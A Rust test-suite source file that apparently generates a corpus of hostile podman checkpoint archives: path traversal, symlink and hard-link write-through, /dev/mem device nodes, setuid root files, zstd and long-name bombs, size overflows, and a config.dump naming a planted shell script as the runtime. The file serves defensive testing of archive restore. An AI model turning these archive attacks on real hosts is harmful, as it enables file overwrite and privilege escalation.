//! Hostile checkpoint archives. A checkpoint archive is input from another machine, and restoring
//! one must never write outside its destination. Each archive here is a plausible podman export
//! (the members `restore --import` reads first: `config.dump`, `spec.dump`, `checkpoint/inventory.img`
//! ...), so that a target gets past its first checks, plus one attack. The checkpoint images are
//! not real: a target that gets that far fails in CRIU, after it has extracted everything.
//!
//! Generation is deterministic: the same [`Aim`] gives the same bytes. [`corpus`] is every attack
//! against [`Aim::default`]; the suite's `hostile` step builds one against names unique to its
//! case, so that an escaped file can only come from that case.

use serde_json::json;
use std::io::Write;

/// What an attack aims at, and the names that make the archive plausible for one target.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Aim {
    /// The container name in `config.dump` (its ID is derived from it).
    pub name: String,
    /// The image `config.dump` names: the target's own, so it gets past "image not known".
    pub image_id: String,
    pub image_name: String,
    /// The named volume of the volume attacks.
    pub volume: String,
    /// An absolute path the attacks try to create, outside any destination.
    pub escape: String,
    /// An absolute path of an existing file the attacks try to overwrite, link or delete.
    pub victim: String,
    /// The OCI runtime `config.dump` names: the run's own, since podman refuses an archive of
    /// another runtime before it reads anything else (`was created with runtime 'crun' and
    /// cannot be restored with runtime 'runc'`), and the attack would go untested.
    pub runtime: String,
}

impl Default for Aim {
    fn default() -> Aim {
        Aim {
            name: "cc-hostile".into(),
            image_id: "0".repeat(64),
            image_name: ckpt_sandbox::TEST_IMAGE.into(),
            volume: "cc-hostile-volume".into(),
            escape: "/tmp/cc-escape-marker".into(),
            victim: "/tmp/cc-victim".into(),
            runtime: "crun".into(),
        }
    }
}

/// What a planted victim holds; an attack that reached it changed or removed it.
pub const VICTIM_CONTENT: &str = "victim: must stay as planted\n";
/// What every attack writes.
const ESCAPED: &[u8] = b"escaped: written outside the destination\n";

/// One attack of the corpus.
pub struct Attack {
    pub name: &'static str,
    /// One line: what the archive tries.
    pub what: &'static str,
    build: fn(&Aim) -> Vec<u8>,
}

impl Attack {
    pub fn build(&self, aim: &Aim) -> Vec<u8> {
        (self.build)(aim)
    }
}

/// Every attack, in the order of the corpus.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "traversal", what: "a member `../../…/<escape>`", build: traversal },
    Attack { name: "absolute", what: "a member with the absolute name `/<escape>`", build: absolute },
    Attack { name: "symlink-write", what: "a symlink to the escape's folder (absolute target), then a file written through it", build: symlink_write },
    Attack { name: "symlink-relative-write", what: "a symlink `../../…/<escape's folder>`, then a file written through it", build: symlink_relative_write },
    Attack { name: "duplicate-members", what: "config.dump twice, and a file that is replaced by a symlink to the escape's folder, then written through", build: duplicate_members },
    Attack { name: "hardlink-escape", what: "a hard link to `../../…/<victim>`, then a file of the same name (a write through the link)", build: hardlink_escape },
    Attack { name: "hardlink-absolute", what: "a hard link to the absolute `<victim>`, then a file of the same name", build: hardlink_absolute },
    Attack { name: "device-node", what: "character device 1:1 (/dev/mem) and block device 8:0 in artifacts/, named after the case", build: device_node },
    Attack { name: "setuid", what: "a setuid and setgid root executable in artifacts/, named after the case", build: setuid },
    Attack { name: "non-utf8-names", what: "member names that are not UTF-8, one of them hiding a traversal to the escape", build: non_utf8_names },
    Attack { name: "huge-declared-size", what: "a member named after the case declaring 1 TiB (base-256 size) with a few bytes behind it, before config.dump", build: huge_declared_size },
    Attack { name: "decompression-bomb", what: "a small zstd frame of RLE blocks holding a 5 GiB member of zeros, named after the case", build: decompression_bomb },
    Attack { name: "longname-bomb", what: "a small zstd frame holding a 3 GiB GNU long name, then a member `../../…/<escape>`", build: longname_bomb },
    Attack { name: "truncated-zstd", what: "a zstd export cut in the middle of checkpoint/", build: truncated_zstd },
    Attack { name: "truncated-tar", what: "a plain tar export cut on a header boundary after spec.dump", build: truncated_tar },
    Attack { name: "wrong-magic", what: "a zstd export whose first byte is wrong", build: wrong_magic },
    Attack { name: "nested-compression", what: "a zstd export inside gzip", build: nested_compression },
    Attack { name: "rootfs-traversal", what: "rootfs-diff.tar with a member `../../…/<escape>`", build: rootfs_traversal },
    Attack { name: "rootfs-symlink-write", what: "rootfs-diff.tar with a symlink to the escape's folder, then a file written through it", build: rootfs_symlink_write },
    Attack { name: "rootfs-hardlink-escape", what: "rootfs-diff.tar with a hard link to `../../…/<victim>`, then a write through it", build: rootfs_hardlink_escape },
    Attack { name: "rootfs-device-node", what: "rootfs-diff.tar with character device 1:1 (/dev/mem), named after the case", build: rootfs_device_node },
    Attack { name: "rootfs-setuid", what: "rootfs-diff.tar with a setuid root executable, named after the case", build: rootfs_setuid },
    Attack { name: "deleted-files-traversal", what: "deleted.files listing `../../…/<victim>` and the absolute `<victim>`", build: deleted_files_traversal },
    Attack { name: "spec-without-capabilities", what: "config.dump and spec.dump without `process.capabilities` (every real export has it)", build: spec_without_capabilities },
    Attack { name: "volume-traversal", what: "volumes/<volume>.tar (a named volume of config.dump) with a member `../../…/<escape>`", build: volume_traversal },
    Attack { name: "volume-symlink-write", what: "volumes/<volume>.tar with a symlink to the escape's folder, then a file written through it", build: volume_symlink_write },
    Attack { name: "devshm-symlink-write", what: "devshm-checkpoint.tar with a symlink to the escape's folder, then a file written through it", build: devshm_symlink_write },
    // Metadata: a well-formed tar whose config.dump, spec.dump or metadata members attack.
    Attack { name: "meta-id-traversal", what: "config.dump's `id` is `../../…/<escape>`: store paths joined with it leave the store", build: meta_id_traversal },
    Attack { name: "meta-short-id", what: "config.dump's `id` is `abc`, shorter than the 12 digits `ps` shows", build: meta_short_id },
    Attack { name: "meta-runtime-path", what: "config.dump's `runtime` is the path of an executable (`<escape>.runtime`, planted beside the archive, as rootfs-diff.tar could ship one) that writes the escape", build: meta_runtime_path },
    Attack { name: "meta-name-id-prefix", what: "config.dump's `name` is another container's short ID (the case passes `{shortid:c}` as the name)", build: meta_plain },
    Attack { name: "meta-privileged-mounts", what: "spec.dump bind-mounts the host's / at /host (`-v /:/host`)", build: meta_privileged_mounts },
    Attack { name: "meta-all-caps", what: "spec.dump grants every capability (CAP_SYS_ADMIN, CAP_SYS_MODULE…), as `--privileged` does", build: meta_all_caps },
    Attack { name: "meta-no-namespaces", what: "spec.dump lists only the network namespace: the host's pid, ipc, uts and mount namespaces", build: meta_no_namespaces },
    Attack { name: "meta-symlink-network-status", what: "network.status is a symlink to the victim (a reader that follows it copies a host file)", build: meta_symlink_network_status },
    Attack { name: "meta-symlink-checkpoint", what: "checkpoint is a symlink to the victim's folder (CRIU would read, a cleanup delete, through it)", build: meta_symlink_checkpoint },
    Attack { name: "pax-longname-bomb", what: "a PAX `size=0` record on a member whose size field covers a 3 GiB GNU long name header (a guard that reads the size field skips it; the tar crate reads it), then a member `../../…/<escape>` that such a guard never sees", build: pax_longname_bomb },
    Attack { name: "size-overflow", what: "a member whose base-256 size is 2^64 - 1, then a member `../../…/<escape>` (rounding the size up to a block wraps to 0: a reader that wraps takes it for the next member)", build: size_overflow },
];

/// A file an attack needs beside its archive (path, content; written executable), or none.
pub fn helper(name: &str, aim: &Aim) -> Option<(String, Vec<u8>)> {
    (name == "meta-runtime-path").then(|| {
        let script = format!(
            "#!/bin/sh\n# an OCI runtime named by a hostile config.dump\nprintf 'escaped: the archive chose the runtime\\n' > '{}'\nexit 1\n",
            aim.escape
        );
        (runtime_path(aim), script.into_bytes())
    })
}

fn runtime_path(aim: &Aim) -> String {
    format!("{}.runtime", aim.escape)
}

/// The attack of this name.
pub fn attack(name: &str) -> Option<&'static Attack> {
    ATTACKS.iter().find(|a| a.name == name)
}

/// Every attack against [`Aim::default`]: (name, archive bytes).
pub fn corpus() -> Vec<(&'static str, Vec<u8>)> {
    let aim = Aim::default();
    ATTACKS.iter().map(|a| (a.name, a.build(&aim))).collect()
}

/// A 64-hex container ID derived from its name (FNV-1a, four lanes): unique per name, stable.
pub fn container_id(name: &str) -> String {
    (0u8..4)
        .map(|lane| {
            let mut h: u64 = 0xcbf2_9ce4_8422_2325 ^ u64::from(lane);
            for b in name.bytes() {
                h = (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3);
            }
            format!("{h:016x}")
        })
        .collect()
}

// --- a tar writer that writes names byte for byte (`..`, `/`, non-UTF-8), as an attacker would ---

const BLOCK: usize = 512;
/// 2026-01-01T00:00:00Z, so that the bytes do not depend on the clock.
const MTIME: u64 = 1_767_225_600;

#[derive(Default)]
struct Tar(Vec<u8>);

struct Member<'a> {
    name: &'a [u8],
    kind: tar::EntryType,
    mode: u32,
    link: &'a [u8],
    data: &'a [u8],
    /// A size field that lies about the data behind it.
    declared: Option<u64>,
    device: (u32, u32),
}

impl<'a> Member<'a> {
    fn new(name: &'a [u8], kind: tar::EntryType) -> Member<'a> {
        Member {
            name,
            kind,
            mode: 0o644,
            link: b"",
            data: b"",
            declared: None,
            device: (0, 0),
        }
    }
}

impl Tar {
    fn member(&mut self, m: Member) {
        if m.name.len() > 100 {
            self.long(tar::EntryType::GNULongName, m.name);
        }
        if m.link.len() > 100 {
            self.long(tar::EntryType::GNULongLink, m.link);
        }
        let mut h = tar::Header::new_gnu();
        let old = h.as_old_mut();
        old.name[..m.name.len().min(100)].copy_from_slice(&m.name[..m.name.len().min(100)]);
        old.linkname[..m.link.len().min(100)].copy_from_slice(&m.link[..m.link.len().min(100)]);
        h.set_entry_type(m.kind);
        h.set_mode(m.mode);
        h.set_uid(0);
        h.set_gid(0);
        h.set_mtime(MTIME);
        h.set_size(m.declared.unwrap_or(m.data.len() as u64));
        if matches!(m.kind, tar::EntryType::Char | tar::EntryType::Block) {
            // Only fails for the old v7 header, which this is not.
            let _ = h.set_device_major(m.device.0);
            let _ = h.set_device_minor(m.device.1);
        }
        h.set_cksum();
        self.0.extend_from_slice(h.as_bytes());
        self.0.extend_from_slice(m.data);
        self.pad();
    }

    /// A GNU long name or long link record for the member that follows.
    fn long(&mut self, kind: tar::EntryType, name: &[u8]) {
        let mut data = name.to_vec();
        data.push(0);
        let mut m = Member::new(b"././@LongLink", kind);
        m.data = &data;
        self.member(m);
    }

    fn pad(&mut self) {
        let rem = self.0.len() % BLOCK;
        if rem != 0 {
            self.0.resize(self.0.len() + BLOCK - rem, 0);
        }
    }

    fn file(&mut self, name: &[u8], mode: u32, data: &[u8]) {
        let mut m = Member::new(name, tar::EntryType::Regular);
        m.mode = mode;
        m.data = data;
        self.member(m);
    }

    fn dir(&mut self, name: &[u8], mode: u32) {
        let mut m = Member::new(name, tar::EntryType::Directory);
        m.mode = mode;
        self.member(m);
    }

    fn link(&mut self, kind: tar::EntryType, name: &[u8], target: &[u8]) {
        let mut m = Member::new(name, kind);
        m.mode = 0o777;
        m.link = target;
        self.member(m);
    }

    fn device(&mut self, name: &[u8], kind: tar::EntryType, major: u32, minor: u32) {
        let mut m = Member::new(name, kind);
        m.mode = 0o666;
        m.device = (major, minor);
        self.member(m);
    }

    /// The end-of-archive marker: two zero blocks.
    fn finish(mut self) -> Vec<u8> {
        self.0.resize(self.0.len() + 2 * BLOCK, 0);
        self.0
    }
}

// --- the plausible export every attack starts from ---

/// Enough `../` to climb from any extraction folder to `/`.
fn up() -> String {
    "../".repeat(32)
}

/// `../../…/<path without its leading />`.
fn climb(path: &str) -> String {
    format!("{}{}", up(), path.trim_start_matches('/'))
}

/// The escape's folder and its file name.
fn split(path: &str) -> (&str, &str) {
    match path.rsplit_once('/') {
        Some(("", base)) => ("/", base),
        Some((dir, base)) => (dir, base),
        None => (".", path),
    }
}

/// The inner members a podman export may carry, each an uncompressed tar.
#[derive(Default)]
struct Inner {
    rootfs_diff: Option<Vec<u8>>,
    volume: Option<Vec<u8>>,
    devshm: Option<Vec<u8>>,
    deleted: Option<Vec<String>>,
    /// The OCI spec without `process.capabilities`, which every real export has.
    bare_spec: bool,
    /// Changes to config.dump and spec.dump (config.dump's copy of the spec included).
    meta: Option<fn(&Aim, &mut serde_json::Value, &mut serde_json::Value)>,
    /// Metadata members written as symlinks: (member, target).
    links: Vec<(&'static str, String)>,
}

/// podman's default capabilities, as its exports list them.
const CAPS: [&str; 11] = [
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_FOWNER",
    "CAP_FSETID",
    "CAP_KILL",
    "CAP_NET_BIND_SERVICE",
    "CAP_SETFCAP",
    "CAP_SETGID",
    "CAP_SETPCAP",
    "CAP_SETUID",
    "CAP_SYS_CHROOT",
];

fn spec(aim: &Aim) -> serde_json::Value {
    let id = container_id(&aim.name);
    // podman bind-mounts these from the container's own folder; an importer must put its own
    // files there (and /dev/shm gets devshm-checkpoint.tar's content).
    let run = format!("/run/containers/storage/overlay-containers/{id}/userdata");
    let lib = format!("/var/lib/containers/storage/overlay-containers/{id}/userdata");
    let userdata_bind = |dest: &str, source: String| json!({ "destination": dest, "type": "bind", "source": source, "options": ["bind", "rprivate"] });
    json!({
        "ociVersion": "1.2.0",
        "process": {
            "user": { "uid": 0, "gid": 0 },
            "args": ["sh", "-c", "while true; do sleep 1; done"],
            "env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "container=podman"],
            "cwd": "/",
            "capabilities": {
                "bounding": CAPS, "effective": CAPS, "permitted": CAPS
            }
        },
        "root": { "path": "rootfs" },
        "hostname": &id[..12],
        "mounts": [
            { "destination": "/proc", "type": "proc", "source": "proc", "options": ["nosuid", "noexec", "nodev"] },
            { "destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "strictatime", "mode=755", "size=65536k"] },
            userdata_bind("/etc/resolv.conf", format!("{run}/resolv.conf")),
            userdata_bind("/etc/hosts", format!("{run}/hosts")),
            userdata_bind("/dev/shm", format!("{lib}/shm")),
            userdata_bind("/run/.containerenv", format!("{run}/.containerenv")),
            userdata_bind("/etc/hostname", format!("{run}/hostname"))
        ],
        "annotations": { "io.container.manager": "libpod" },
        "linux": {
            "resources": { "devices": [{ "allow": false, "access": "rwm" }] },
            "namespaces": [
                { "type": "pid" }, { "type": "network" }, { "type": "ipc" }, { "type": "uts" }, { "type": "mount" }
            ]
        }
    })
}

fn config(aim: &Aim, with_volume: bool) -> serde_json::Value {
    let mut config = json!({
        "spec": spec(aim),
        "id": container_id(&aim.name),
        "name": aim.name,
        "RawImageName": aim.image_name,
        "rootfsImageID": aim.image_id,
        "rootfsImageName": aim.image_name,
        "command": ["sh", "-c", "while true; do sleep 1; done"],
        "networkMode": "none",
        "runtime": aim.runtime,
        "createdTime": "2026-01-01T00:00:00Z",
        "stopSignal": 15,
        "stopTimeout": 10,
        "logDriver": "k8s-file",
        "cgroupManager": "cgroupfs",
        "cgroupsMode": "enabled",
        "cgroupParent": "/libpod_parent"
    });
    if with_volume {
        config["namedVolumes"] = json!([{
            "volumeName": aim.volume,
            "dest": "/vol",
            "options": ["rw", "rprivate", "nosuid", "nodev", "rbind"]
        }]);
    }
    config
}

fn pretty(value: &serde_json::Value) -> Vec<u8> {
    serde_json::to_vec_pretty(value).expect("a JSON value always serialises")
}

/// A CRIU image: the magic, then a size-prefixed protobuf payload (not a real process).
fn criu_image(magics: &[u32], payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for m in magics {
        out.extend_from_slice(&m.to_le_bytes());
    }
    out.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    out.extend_from_slice(payload);
    out
}

/// The members of a podman export, in podman's order, up to and including `checkpoint/`; the
/// attack appends its own members, then [`finish_export`] adds the inner tars.
fn export_head(aim: &Aim, inner: &Inner) -> Tar {
    let mut t = Tar::default();
    t.dir(b"artifacts", 0o755);
    if let Some(shm) = &inner.devshm {
        t.file(b"devshm-checkpoint.tar", 0o644, shm);
    }
    let mut config = config(aim, inner.volume.is_some());
    let mut spec = spec(aim);
    if inner.bare_spec {
        for process in [&mut config["spec"]["process"], &mut spec["process"]] {
            process.as_object_mut().map(|p| p.remove("capabilities"));
        }
    }
    if let Some(meta) = inner.meta {
        meta(aim, &mut config, &mut spec);
        config["spec"] = spec.clone();
    }
    let link = |name: &str| inner.links.iter().find(|(m, _)| *m == name).map(|(_, t)| t);
    t.file(b"config.dump", 0o600, &pretty(&config));
    t.file(b"spec.dump", 0o600, &pretty(&spec));
    match link("network.status") {
        Some(target) => t.link(
            tar::EntryType::Symlink,
            b"network.status",
            target.as_bytes(),
        ),
        None => t.file(b"network.status", 0o600, b"null"),
    }
    t.file(
        b"stats-dump",
        0o644,
        &criu_image(&[0x5510_5940, 0x5709_3306], &[]),
    );
    if let Some(target) = link("checkpoint") {
        t.link(tar::EntryType::Symlink, b"checkpoint", target.as_bytes());
        return t;
    }
    t.dir(b"checkpoint", 0o700);
    t.file(
        b"checkpoint/inventory.img",
        0o644,
        &criu_image(&[0x5831_3116], &[8, 2, 16, 1]),
    );
    t.file(
        b"checkpoint/pstree.img",
        0o644,
        &criu_image(&[0x5456_4319, 0x5027_3030], &[8, 1, 16, 0]),
    );
    t.file(b"checkpoint/pages-1.img", 0o644, &[0u8; 4096]);
    t
}

fn finish_export(mut t: Tar, aim: &Aim, inner: &Inner) -> Vec<u8> {
    let benign;
    let rootfs = match &inner.rootfs_diff {
        Some(r) => r,
        None => {
            let mut r = Tar::default();
            r.file(b"cc-added", 0o644, b"added\n");
            benign = r.finish();
            &benign
        }
    };
    t.file(b"rootfs-diff.tar", 0o644, rootfs);
    if let Some(deleted) = &inner.deleted {
        t.file(
            b"deleted.files",
            0o644,
            &serde_json::to_vec(deleted).expect("strings"),
        );
    }
    if let Some(volume) = &inner.volume {
        t.file(
            format!("volumes/{}.tar", aim.volume).as_bytes(),
            0o644,
            volume,
        );
    }
    t.finish()
}

/// A complete export with the attack's members after `checkpoint/`.
fn export_with(aim: &Aim, inner: &Inner, attack: impl FnOnce(&mut Tar)) -> Vec<u8> {
    let mut t = export_head(aim, inner);
    attack(&mut t);
    finish_export(t, aim, inner)
}

fn zstd(tar: &[u8]) -> Vec<u8> {
    zstd::encode_all(tar, 3).expect("compressing in memory cannot fail")
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).expect("in memory");
    e.finish().expect("in memory")
}

/// Members that write the escape through a symlink named `link` pointing at `target`.
fn write_through(t: &mut Tar, link: &str, target: &str, aim: &Aim) {
    let (_, base) = split(&aim.escape);
    t.link(tar::EntryType::Symlink, link.as_bytes(), target.as_bytes());
    t.file(format!("{link}/{base}").as_bytes(), 0o644, ESCAPED);
}

/// An inner tar (rootfs-diff, volume, /dev/shm) with these members after a benign file.
fn inner_tar(attack: impl FnOnce(&mut Tar)) -> Vec<u8> {
    let mut t = Tar::default();
    t.file(b"cc-added", 0o644, b"added\n");
    attack(&mut t);
    t.finish()
}

// --- the attacks ---

fn traversal(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(aim, &Inner::default(), |t| {
        t.file(climb(&aim.escape).as_bytes(), 0o644, ESCAPED)
    }))
}

fn absolute(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(aim, &Inner::default(), |t| {
        t.file(aim.escape.as_bytes(), 0o644, ESCAPED)
    }))
}

fn symlink_write(aim: &Aim) -> Vec<u8> {
    let (dir, _) = split(&aim.escape);
    zstd(&export_with(aim, &Inner::default(), |t| {
        write_through(t, "cc-link", dir, aim)
    }))
}

fn symlink_relative_write(aim: &Aim) -> Vec<u8> {
    let (dir, _) = split(&aim.escape);
    zstd(&export_with(aim, &Inner::default(), |t| {
        write_through(t, "cc-up", &climb(dir), aim)
    }))
}

fn duplicate_members(aim: &Aim) -> Vec<u8> {
    let (dir, _) = split(&aim.escape);
    zstd(&export_with(aim, &Inner::default(), |t| {
        t.file(b"config.dump", 0o600, &pretty(&config(aim, false)));
        t.file(b"cc-dup", 0o644, b"first a file\n");
        write_through(t, "cc-dup", dir, aim);
    }))
}

fn hardlink_escape(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(aim, &Inner::default(), |t| {
        t.link(
            tar::EntryType::Link,
            b"cc-hard",
            climb(&aim.victim).as_bytes(),
        );
        t.file(b"cc-hard", 0o644, ESCAPED);
    }))
}

fn hardlink_absolute(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(aim, &Inner::default(), |t| {
        t.link(tar::EntryType::Link, b"cc-hard", aim.victim.as_bytes());
        t.file(b"cc-hard", 0o644, ESCAPED);
    }))
}

/// A member name after the case's container name, so that a case can search the sandbox for what
/// its own archive left (`no_hazard`): `artifacts/<name>-mem`.
fn tagged(aim: &Aim, folder: &str, what: &str) -> Vec<u8> {
    format!("{folder}{}-{what}", aim.name).into_bytes()
}

fn device_node(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(aim, &Inner::default(), |t| {
        t.device(
            &tagged(aim, "artifacts/", "mem"),
            tar::EntryType::Char,
            1,
            1,
        );
        t.device(
            &tagged(aim, "artifacts/", "sda"),
            tar::EntryType::Block,
            8,
            0,
        );
    }))
}

fn setuid(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(aim, &Inner::default(), |t| {
        t.file(
            &tagged(aim, "artifacts/", "suid"),
            0o6755,
            b"#!/bin/sh\nid\n",
        )
    }))
}

fn non_utf8_names(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(aim, &Inner::default(), |t| {
        t.file(b"artifacts/cc-\xff\xfe-latin1-\xe9", 0o644, b"x\n");
        let mut hidden = b"artifacts/\xc0\xaf/".to_vec();
        hidden.extend_from_slice(climb(&aim.escape).as_bytes());
        t.file(&hidden, 0o644, ESCAPED);
    }))
}

fn huge_declared_size(aim: &Aim) -> Vec<u8> {
    let mut t = Tar::default();
    t.dir(b"artifacts", 0o755);
    // Named after the case, so that a file of the declared size left anywhere is found.
    let name = tagged(aim, "artifacts/", "huge");
    let config = pretty(&config(aim, false));
    let mut m = Member::new(&name, tar::EntryType::Regular);
    m.data = &config;
    m.declared = Some(1 << 40);
    t.member(m);
    zstd(&t.finish())
}

/// A zstd frame built by hand: `head` raw, `count` copies of `byte` as RLE blocks (4 bytes per
/// 128 KiB), then `tail` raw. Tiny on disk, huge once decompressed.
fn zstd_rle_frame(head: &[u8], byte: u8, count: u64, tail: &[u8]) -> Vec<u8> {
    const MAX_BLOCK: usize = 128 << 10;
    let mut out = vec![0x28, 0xb5, 0x2f, 0xfd];
    // Frame header descriptor: no content size, no checksum, no dictionary; a window of 2^17.
    out.extend_from_slice(&[0x00, 0x38]);
    let block = |out: &mut Vec<u8>, kind: u32, size: usize, last: bool| {
        let h = u32::from(last) | (kind << 1) | ((size as u32) << 3);
        out.extend_from_slice(&h.to_le_bytes()[..3]);
    };
    for chunk in head.chunks(MAX_BLOCK) {
        block(&mut out, 0, chunk.len(), false);
        out.extend_from_slice(chunk);
    }
    let mut left = count;
    while left > 0 {
        let n = left.min(MAX_BLOCK as u64) as usize;
        block(&mut out, 1, n, false);
        out.push(byte);
        left -= n as u64;
    }
    let chunks: Vec<&[u8]> = tail.chunks(MAX_BLOCK).collect();
    if chunks.is_empty() {
        block(&mut out, 0, 0, true);
    }
    for (i, chunk) in chunks.iter().enumerate() {
        block(&mut out, 0, chunk.len(), i + 1 == chunks.len());
        out.extend_from_slice(chunk);
    }
    out
}

/// Bytes of a header for a member of `size` bytes (its data follows separately).
fn header_only(name: &[u8], kind: tar::EntryType, size: u64) -> Vec<u8> {
    let mut t = Tar::default();
    let mut m = Member::new(name, kind);
    m.declared = Some(size);
    t.member(m);
    t.0
}

fn decompression_bomb(aim: &Aim) -> Vec<u8> {
    const SIZE: u64 = 5 << 30;
    let mut head = export_head(aim, &Inner::default()).0;
    head.extend(header_only(
        &tagged(aim, "checkpoint/pages-", "bomb.img"),
        tar::EntryType::Regular,
        SIZE,
    ));
    // The member's zeros and the end-of-archive marker are all RLE.
    zstd_rle_frame(&head, 0, SIZE + 2 * BLOCK as u64, &[])
}

fn longname_bomb(aim: &Aim) -> Vec<u8> {
    const SIZE: u64 = 3 << 30;
    let mut head = export_head(aim, &Inner::default()).0;
    head.extend(header_only(
        b"././@LongLink",
        tar::EntryType::GNULongName,
        SIZE,
    ));
    // The name: SIZE - 1 bytes of 'a' and its NUL; then the member it names, and behind the
    // bomb, where only a reader that got through it looks, a traversal to the escape.
    let mut tail = vec![0u8];
    let mut t = Tar::default();
    t.file(b"cc-named", 0o644, b"x\n");
    t.file(climb(&aim.escape).as_bytes(), 0o644, ESCAPED);
    tail.extend(t.finish());
    zstd_rle_frame(&head, b'a', SIZE - 1, &tail)
}

fn truncated_zstd(aim: &Aim) -> Vec<u8> {
    let tar = export_with(aim, &Inner::default(), |_| {});
    let at = tar
        .windows(b"checkpoint/pstree.img".len())
        .position(|w| w == b"checkpoint/pstree.img")
        .expect("the export has a pstree.img");
    // Compress all of it, then keep the frame only as far as the middle of checkpoint/.
    let z = zstd(&tar);
    let keep = (z.len() as u64 * at as u64 / tar.len() as u64) as usize;
    z[..keep.max(16)].to_vec()
}

fn truncated_tar(aim: &Aim) -> Vec<u8> {
    let tar = export_with(aim, &Inner::default(), |_| {});
    let at = tar
        .windows(b"network.status".len())
        .position(|w| w == b"network.status")
        .expect("the export has a network.status");
    // Cut right before network.status's header: every member before it is complete.
    tar[..at - at % BLOCK].to_vec()
}

fn wrong_magic(aim: &Aim) -> Vec<u8> {
    let mut z = zstd(&export_with(aim, &Inner::default(), |_| {}));
    z[0] = 0x29;
    z
}

fn nested_compression(aim: &Aim) -> Vec<u8> {
    gzip(&zstd(&export_with(aim, &Inner::default(), |_| {})))
}

fn rootfs_traversal(aim: &Aim) -> Vec<u8> {
    let inner = Inner {
        rootfs_diff: Some(inner_tar(|t| {
            t.file(climb(&aim.escape).as_bytes(), 0o644, ESCAPED)
        })),
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn rootfs_symlink_write(aim: &Aim) -> Vec<u8> {
    let (dir, _) = split(&aim.escape);
    let inner = Inner {
        rootfs_diff: Some(inner_tar(|t| write_through(t, "cc-link", dir, aim))),
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn rootfs_hardlink_escape(aim: &Aim) -> Vec<u8> {
    let inner = Inner {
        rootfs_diff: Some(inner_tar(|t| {
            t.link(
                tar::EntryType::Link,
                b"cc-hard",
                climb(&aim.victim).as_bytes(),
            );
            t.file(b"cc-hard", 0o644, ESCAPED);
        })),
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn rootfs_device_node(aim: &Aim) -> Vec<u8> {
    let inner = Inner {
        rootfs_diff: Some(inner_tar(|t| {
            t.device(&tagged(aim, "", "mem"), tar::EntryType::Char, 1, 1)
        })),
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn rootfs_setuid(aim: &Aim) -> Vec<u8> {
    let inner = Inner {
        rootfs_diff: Some(inner_tar(|t| {
            t.file(&tagged(aim, "", "suid"), 0o6755, b"#!/bin/sh\nid\n")
        })),
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn deleted_files_traversal(aim: &Aim) -> Vec<u8> {
    let inner = Inner {
        deleted: Some(vec![climb(&aim.victim), aim.victim.clone()]),
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn spec_without_capabilities(aim: &Aim) -> Vec<u8> {
    let inner = Inner {
        bare_spec: true,
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn volume_traversal(aim: &Aim) -> Vec<u8> {
    let inner = Inner {
        volume: Some(inner_tar(|t| {
            t.file(climb(&aim.escape).as_bytes(), 0o644, ESCAPED)
        })),
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn volume_symlink_write(aim: &Aim) -> Vec<u8> {
    let (dir, _) = split(&aim.escape);
    let inner = Inner {
        volume: Some(inner_tar(|t| write_through(t, "cc-link", dir, aim))),
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn devshm_symlink_write(aim: &Aim) -> Vec<u8> {
    let (dir, _) = split(&aim.escape);
    let inner = Inner {
        devshm: Some(inner_tar(|t| write_through(t, "cc-link", dir, aim))),
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn meta(f: fn(&Aim, &mut serde_json::Value, &mut serde_json::Value)) -> Inner {
    Inner {
        meta: Some(f),
        ..Inner::default()
    }
}

fn meta_id_traversal(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(
        aim,
        &meta(|aim, config, _| config["id"] = json!(climb(&aim.escape))),
        |_| {},
    ))
}

fn meta_short_id(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(
        aim,
        &meta(|_, config, _| config["id"] = json!("abc")),
        |_| {},
    ))
}

fn meta_runtime_path(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(
        aim,
        &meta(|aim, config, _| config["runtime"] = json!(runtime_path(aim))),
        |_| {},
    ))
}

/// The base export: the attack is in the [`Aim`] (a name that is another container's short ID).
fn meta_plain(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(aim, &Inner::default(), |_| {}))
}

fn meta_privileged_mounts(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(
        aim,
        &meta(|_, _, spec| {
            let host = json!({ "destination": "/host", "type": "bind", "source": "/", "options": ["rbind", "rw"] });
            spec["mounts"].as_array_mut().expect("mounts").push(host);
        }),
        |_| {},
    ))
}

/// Every capability of Linux 6.x.
const ALL_CAPS: &[&str] = &[
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_DAC_READ_SEARCH",
    "CAP_FOWNER",
    "CAP_FSETID",
    "CAP_KILL",
    "CAP_SETGID",
    "CAP_SETUID",
    "CAP_SETPCAP",
    "CAP_LINUX_IMMUTABLE",
    "CAP_NET_BIND_SERVICE",
    "CAP_NET_BROADCAST",
    "CAP_NET_ADMIN",
    "CAP_NET_RAW",
